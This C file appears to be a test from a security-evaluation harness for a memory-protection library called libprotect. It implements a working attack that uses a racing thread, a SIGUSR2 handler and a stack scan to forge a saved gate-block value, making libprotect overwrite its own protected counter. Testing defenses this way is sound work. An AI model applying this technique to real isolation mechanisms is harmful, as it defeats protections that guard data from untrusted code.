/* Delivering a signal inside the library (no_defer = SIGUSR2), libprotect
 * lowers the thread's gate-block stack pointer with the library's key
 * open, and puts it back after the handler.  A second thread first points
 * the victim's thread-local block pointer (the application's memory) at
 * the library's counter; the handler then finds libprotect's record of the
 * move on its own stack (the application's memory too) and changes the
 * value to be put back.  deliver_block */
#define _GNU_SOURCE
#include "attack.h"

#include "libprotect_symbols.h"

#include <pthread.h>
#include <signal.h>

static void **victim_slot; /* the main thread's protect_blocks[0] */
static void *real_block;
static pthread_t victim;

static void *fake;

static void handler(int sig)
{
    uint64_t *p = __builtin_frame_address(0);
    for (int i = 0; i < 4096; i++)
        if (p[i] == (uint64_t)(uintptr_t)fake) {
            p[i + 2] = FORGED_COUNTER; /* {block, sp, saved} */
            return;
        }
}

static void *interfere(void *unused)
{
    usleep(100 * 1000); /* the victim is inside vault_hold */
    real_block = *victim_slot;
    /* gate_block.sp is the second word: sp - 8 makes it the counter */
    fake = (uint8_t *)&vault_address(VAULT_DATA)->counter - 8;
    *victim_slot = fake;
    pthread_kill(victim, SIGUSR2);
    usleep(100 * 1000);
    *victim_slot = real_block;
    return NULL;
}

int main(void)
{
    vault_open();
    victim_slot = libprotect_thread_local("protect_blocks");
    if (!victim_slot)
        blocked("protect_blocks not found (a stripped libprotect only hides it)");
    signal(SIGUSR2, handler);
    victim = pthread_self();
    pthread_t t;
    pthread_create(&t, NULL, interfere, NULL);
    vault_hold(400);
    pthread_join(t, NULL);
    if (vault_counter(VAULT_DATA) == FORGED_COUNTER)
        breached("libprotect wrote the library's counter through a block pointer the application set");
    blocked("the counter did not change");
}
